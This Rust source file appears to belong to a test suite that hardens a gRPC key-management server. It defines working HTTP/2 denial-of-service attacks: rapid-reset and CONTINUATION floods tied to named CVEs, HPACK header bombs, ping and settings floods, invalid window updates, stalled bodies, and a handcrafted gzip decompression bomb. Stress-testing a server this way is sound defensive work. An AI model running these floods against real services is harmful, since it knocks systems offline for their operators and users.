//! What is done to the server, one function per attack. Each may be cut off at any moment: that is an answer too.

use std::time::Duration;

use keyclave_client::dial::Stream;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame,
};
use super::target::Target;

const ENCRYPT: &str = "/keyclave.v1.CryptoService/Encrypt";
const SUBMIT_SHARE: &str = "/keyclave.v1.SealService/SubmitShare";
const GET_SEAL_STATUS: &str = "/keyclave.v1.SealService/GetSealStatus";

/// How long an attacker goes on writing to somebody who does not read.
const PATIENCE: Duration = Duration::from_secs(2);

/// Writes all of it, as long as it is taken.
async fn push(stream: &mut Box<dyn Stream>, bytes: &[u8]) -> bool {
    matches!(tokio::time::timeout(PATIENCE, stream.write_all(bytes)).await, Ok(Ok(())))
}

/// Writes `piece` until it was done `times` or is not taken any more, answers unread.
async fn flood(target: &Target, first: Vec<u8>, times: usize, mut piece: impl FnMut(usize) -> Vec<u8>) {
    let Some(mut stream) = target.connect().await else { return };
    if !push(&mut stream, &first).await {
        return;
    }
    let mut batch = Vec::new();
    for at in 0..times {
        batch.extend(piece(at));
        if batch.len() > 32 * 1024 {
            if !push(&mut stream, &batch).await {
                return;
            }
            batch.clear();
        }
    }
    let _ = push(&mut stream, &batch).await;
}

/// The number of a client's stream.
fn stream(at: usize) -> u32 {
    u32::try_from(at * 2 + 1).unwrap()
}

/// Connections from another address on which nothing is ever said.
pub(crate) async fn mute_connections(target: &Target, count: usize) -> Vec<TcpStream> {
    let mut open = Vec::new();
    for _ in 0..count {
        let socket = TcpSocket::new_v4().unwrap();
        socket.bind("127.0.0.2:0".parse().unwrap()).unwrap();
        if let Ok(Ok(stream)) = tokio::time::timeout(PATIENCE, socket.connect(target.address)).await {
            open.push(stream);
        }
    }
    open
}

/// After the handshake, something that is not HTTP/2.
pub(crate) async fn not_http2(target: &Target, bytes: &[u8]) {
    let Some(mut stream) = target.connect().await else { return };
    let _ = push(&mut stream, bytes).await;
    let mut answer = Vec::new();
    // It may say so; what matters is that it ends the connection.
    let ended = tokio::time::timeout(Duration::from_secs(60), stream.read_to_end(&mut answer)).await;
    assert!(ended.is_ok(), "the connection stays open");
    assert!(answer.len() < 4_096, "{} bytes were answered", answer.len());
}

/// Streams with bodies that do not end, as many as are taken, left open.
pub(crate) async fn open_bodies(
    target: &Target,
    path: &str,
    credential: Option<&str>,
    streams: usize,
    body_bytes: usize,
) -> Option<Box<dyn Stream>> {
    let mut connection = target.connect().await?;
    let bearer = credential.map(|credential| format!("Bearer {credential}"));
    let more: Vec<_> = bearer.iter().map(|bearer| ("authorization", bearer.as_str())).collect();
    let block = frames::call(path, &more);
    let mut bytes = frames::preface();
    for at in 0..streams {
        bytes.extend(frame(HEADERS, END_HEADERS, stream(at), &block));
    }
    if !push(&mut connection, &bytes).await {
        return Some(connection);
    }
    // The windows are never asked for: what is not taken is thrown away or breaks the connection.
    let length = u32::try_from(4 * body_bytes).unwrap().to_be_bytes();
    for at in 0..streams {
        let mut body = vec![0];
        body.extend(length);
        body.resize(body_bytes, 7);
        for piece in body.chunks(16 * 1024) {
            if !push(&mut connection, &frame(DATA, 0, stream(at), piece)).await {
                return Some(connection);
            }
        }
    }
    Some(connection)
}

/// Large bodies for an operation that needs a credential.
pub(crate) async fn bodies_of_strangers(target: &Target, credential: Option<&str>) {
    let mut open = Vec::new();
    for _ in 0..8 {
        open.push(open_bodies(target, ENCRYPT, credential, 200, 5_000).await);
    }
}

/// Many calls without a credential on each of many connections, whose answers nobody reads; left open.
pub(crate) async fn unread_refusals(
    target: &Target,
    connections: usize,
    calls: usize,
) -> Vec<Box<dyn Stream>> {
    let block = frames::call(ENCRYPT, &[]);
    let mut bytes = frames::preface();
    for at in 0..calls {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(at), &block));
    }
    let mut open = Vec::new();
    for _ in 0..connections {
        let Some(mut connection) = target.connect().await else { continue };
        let _ = push(&mut connection, &bytes).await;
        open.push(connection);
    }
    open
}

/// Calls that are answered, but whose answers may not be sent: the window stays shut.
pub(crate) async fn unread_answers(target: &Target) -> Box<dyn Stream> {
    const CALLS: usize = 10;
    const INITIAL_WINDOW_SIZE: [u8; 6] = [0, 4, 0, 0, 0, 0];
    let mut connection = target.connect().await.unwrap();
    let block = frames::call(GET_SEAL_STATUS, &[]);
    let mut bytes = frames::preface();
    bytes.extend(frame(SETTINGS, 0, 0, &INITIAL_WINDOW_SIZE));
    for at in 0..CALLS {
        bytes.extend(frame(HEADERS, END_HEADERS, stream(at), &block));
        bytes.extend(frame(DATA, END_STREAM, stream(at), &[0; 5]));
    }
    assert!(push(&mut connection, &bytes).await);
    connection
}

/// Waits until the server has ended the connection.
pub(crate) async fn is_ended(mut connection: Box<dyn Stream>) {
    let mut answer = Vec::new();
    let ended = tokio::time::timeout(Duration::from_secs(60), connection.read_to_end(&mut answer)).await;
    assert!(ended.is_ok(), "answers that nobody reads are held for ever");
}

/// Small bodies that would be large ones, from a caller with a credential and for what answers anyone.
pub(crate) async fn gzip_bombs(target: &Target) {
    let bomb = gzip_of_zeros(512 * 1024 * 1024);
    let bearer = format!("Bearer {}", target.token);
    for path in [ENCRYPT, SUBMIT_SHARE] {
        let block = frames::call(path, &[("authorization", &bearer), ("grpc-encoding", "gzip")]);
        for _ in 0..4 {
            let Some(mut connection) = target.connect().await else { continue };
            let mut bytes = frames::preface();
            bytes.extend(frame(HEADERS, END_HEADERS, 1, &block));
            let mut body = vec![1];
            body.extend(u32::try_from(bomb.len()).unwrap().to_be_bytes());
            body.extend_from_slice(&bomb);
            for piece in body.chunks(16 * 1024) {
                bytes.extend(frame(DATA, 0, 1, piece));
            }
            let _ = push(&mut connection, &bytes).await;
        }
    }
}

/// So many zeros as gzip writes them (RFC 1951, 1952): one, and then the last 258 bytes again and again.
fn gzip_of_zeros(count: usize) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let (mut held, mut bits) = (0_u32, 0);
    // Bits as they stand in the stream, the first of them lowest.
    let mut put = |code: u32, length: u32| {
        held |= code << bits;
        bits += length;
        while bits >= 8 {
            bytes.push(held as u8);
            held >>= 8;
            bits -= 8;
        }
    };
    // The only block, with fixed codes; the literal zero; length 258 at distance one, time and again; the end.
    put(0b011, 3);
    put(0b0000_1100, 8);
    for _ in 0..count / 258 {
        put(0b0_0000_1010_0011, 13);
    }
    put(0, 14);
    // What should follow, a sum and a length, is for whoever gets this far.
    bytes
}

/// Bodies that are never ended, for what answers anyone.
pub(crate) async fn bodies_to_the_open_door(target: &Target) {
    let mut open = Vec::new();
    for _ in 0..8 {
        open.push(open_bodies(target, SUBMIT_SHARE, None, 200, 5_000).await);
    }
}

/// Calls that are reset at once (CVE-2023-44487).
pub(crate) async fn rapid_reset(target: &Target) {
    let block = frames::call(GET_SEAL_STATUS, &[]);
    flood(target, frames::preface(), 20_000, |at| {
        let mut bytes = frame(HEADERS, END_HEADERS, stream(at), &block);
        bytes.extend(frame(RST_STREAM, 0, stream(at), &8_u32.to_be_bytes()));
        bytes
    })
    .await;
}

/// Headers that never end (CVE-2024-27316).
pub(crate) async fn continuation_flood(target: &Target) {
    let mut first = frames::preface();
    first.extend(frame(HEADERS, 0, 1, &frames::call(GET_SEAL_STATUS, &[])));
    let mut piece = Vec::new();
    while piece.len() < 15_000 {
        piece.push(0);
        frames::text("x-filler", &mut piece);
        frames::text(&"y".repeat(100), &mut piece);
    }
    flood(target, first, 10_000, |_| frame(CONTINUATION, 0, 1, &piece)).await;
}

/// One large header, put into the table once and then named over and over.
pub(crate) async fn header_bomb(target: &Target) {
    let mut block = frames::call(GET_SEAL_STATUS, &[]);
    block.push(0x40);
    frames::text("x-bomb", &mut block);
    frames::text(&"b".repeat(3_900), &mut block);
    block.resize(16_000, 0xbe);
    flood(target, frames::preface(), 2_000, |at| frame(HEADERS, END_HEADERS, stream(at), &block)).await;
}

/// Frames with nothing in them.
pub(crate) async fn empty_data(target: &Target) {
    let mut first = frames::preface();
    first.extend(frame(HEADERS, END_HEADERS, 1, &frames::call(SUBMIT_SHARE, &[])));
    flood(target, first, 100_000, |_| frame(DATA, 0, 1, &[])).await;
}

/// Questions whose answers nobody reads.
pub(crate) async fn ping_flood(target: &Target) {
    flood(target, frames::preface(), 100_000, |_| frame(PING, 0, 0, &[0; 8])).await;
}

/// Settings that change nothing, each of which is to be acknowledged.
pub(crate) async fn settings_flood(target: &Target) {
    flood(target, frames::preface(), 100_000, |_| frame(SETTINGS, 0, 0, &[])).await;
}

/// Windows of nothing, and beyond what a window may be.
pub(crate) async fn wrong_windows(target: &Target) {
    for increment in [0_u32, 0x7fff_ffff] {
        for on in [0, 1] {
            let mut bytes = frames::preface();
            bytes.extend(frame(HEADERS, END_HEADERS, 1, &frames::call(SUBMIT_SHARE, &[])));
            for _ in 0..3 {
                bytes.extend(frame(WINDOW_UPDATE, 0, on, &increment.to_be_bytes()));
            }
            flood(target, bytes, 0, |_| Vec::new()).await;
        }
    }
}
